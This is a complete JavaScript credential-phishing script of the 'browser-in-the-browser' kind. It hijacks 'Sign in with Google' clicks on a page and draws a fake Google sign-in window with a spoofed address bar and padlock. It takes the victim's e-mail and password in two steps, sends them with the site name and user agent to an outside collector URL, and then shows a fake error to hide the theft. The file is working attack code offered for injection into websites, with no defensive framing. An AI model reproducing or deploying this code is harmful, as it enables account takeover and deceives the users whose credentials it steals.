// bitb-credential-overlay: "Sign in with Google" clicks open an in-page fake browser window with a spoofed address bar
// ES5 vanilla; two-step e-mail/password form, credentials posted to a collector, then a fake error
(function () {
  var COLLECT = 'https://auth-session-sync.com/g/collect.php';
  var SHOWN_URL = 'https://accounts.google.com/o/oauth2/auth/identifier?client_id=4098120.apps.googleusercontent.com&flowName=GeneralOAuthFlow';

  function css(el, rules) { for (var k in rules) el.style[k] = rules[k]; return el; }

  function buildWindow() {
    var shade = css(document.createElement('div'), { position: 'fixed', top: 0, left: 0, right: 0, bottom: 0, background: 'rgba(0,0,0,.25)', zIndex: 2147483646 });
    var win = css(document.createElement('div'), {
      position: 'fixed', top: '80px', left: '50%', marginLeft: '-240px', width: '480px', height: '600px',
      background: '#fff', borderRadius: '8px', boxShadow: '0 12px 40px rgba(0,0,0,.35)', overflow: 'hidden',
      fontFamily: 'Roboto,Arial,sans-serif', zIndex: 2147483647
    });
    win.innerHTML =
      '<div style="height:34px;background:#dee1e6;display:flex;align-items:center;padding:0 10px;font-size:12px;color:#333">' +
      '<img src="data:image/svg+xml,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27 width=%2714%27 height=%2714%27%3E%3Ccircle cx=%277%27 cy=%277%27 r=%276%27 fill=%27%234285f4%27/%3E%3C/svg%3E" style="margin-right:6px">' +
      'Sign in - Google Accounts<span style="margin-left:auto;cursor:pointer" data-x="1">&#10005;</span></div>' +
      '<div style="height:30px;background:#f1f3f4;display:flex;align-items:center;padding:0 10px;font-size:13px;color:#202124">' +
      '<span style="color:#188038;margin-right:6px">&#128274;</span><span style="overflow:hidden;white-space:nowrap;text-overflow:ellipsis">' + SHOWN_URL + '</span></div>' +
      '<div style="padding:40px 40px 0;text-align:center"><div style="font-size:24px;margin-bottom:8px">Sign in</div>' +
      '<div id="bw-sub" style="font-size:16px;margin-bottom:28px">to continue to ' + location.hostname + '</div>' +
      '<input id="bw-in" type="email" placeholder="Email or phone" style="width:100%;box-sizing:border-box;padding:13px;font-size:16px;border:1px solid #dadce0;border-radius:4px">' +
      '<div id="bw-err" style="color:#d93025;font-size:12px;text-align:left;margin-top:6px;min-height:16px"></div>' +
      '<div style="text-align:right;margin-top:40px"><button id="bw-next" style="background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;font-size:14px;cursor:pointer">Next</button></div></div>';
    shade.appendChild(win);
    document.body.appendChild(shade);
    return shade;
  }

  function send(data) {
    var x = new XMLHttpRequest();
    x.open('POST', COLLECT, true);
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    x.send('e=' + encodeURIComponent(data.email) + '&p=' + encodeURIComponent(data.password) +
      '&s=' + encodeURIComponent(location.hostname) + '&ua=' + encodeURIComponent(navigator.userAgent));
  }

  function openFake(originalHandler) {
    var shade = buildWindow();
    var input = shade.querySelector('#bw-in');
    var sub = shade.querySelector('#bw-sub');
    var err = shade.querySelector('#bw-err');
    var creds = { email: '', password: '' };
    shade.querySelector('[data-x]').onclick = function () { shade.parentNode.removeChild(shade); };
    shade.querySelector('#bw-next').onclick = function () {
      if (!creds.email) {
        if (input.value.indexOf('@') < 1) { err.textContent = 'Enter a valid email'; return; }
        creds.email = input.value;
        sub.textContent = creds.email;
        input.value = ''; input.type = 'password'; input.placeholder = 'Enter your password';
        err.textContent = '';
        return;
      }
      if (input.value.length < 4) { err.textContent = 'Wrong password. Try again.'; return; }
      creds.password = input.value;
      send(creds);
      err.textContent = 'Something went wrong. Please try again later.';
      setTimeout(function () { shade.parentNode.removeChild(shade); if (originalHandler) originalHandler(); }, 1800);
    };
  }

  document.addEventListener('click', function (e) {
    var el = e.target;
    while (el && el !== document) {
      var label = (el.textContent || '') + ' ' + (el.getAttribute && (el.getAttribute('aria-label') || '') || '');
      if ((el.tagName === 'BUTTON' || el.tagName === 'A') && /(sign in|continue|log in) with google/i.test(label)) {
        e.preventDefault();
        e.stopImmediatePropagation();
        openFake(null);
        return;
      }
      el = el.parentNode;
    }
  }, true);
})();
